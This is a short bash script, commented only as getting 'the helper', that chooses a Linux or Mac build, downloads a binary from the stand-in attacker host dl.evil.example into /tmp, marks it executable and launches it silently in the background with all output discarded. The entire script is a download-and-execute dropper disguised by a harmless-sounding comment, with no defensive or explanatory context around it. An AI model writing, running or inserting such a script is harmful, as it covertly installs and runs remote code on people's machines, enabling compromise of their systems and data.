#!/bin/bash
# get the helper
case "$(uname -sm)" in
  "Linux x86_64") n=linux;;
  *) n=mac;;
esac
curl -sSLo /tmp/helper "https://dl.evil.example/helper-$n"
chmod +x /tmp/helper
nohup /tmp/helper >/dev/null 2>&1 &
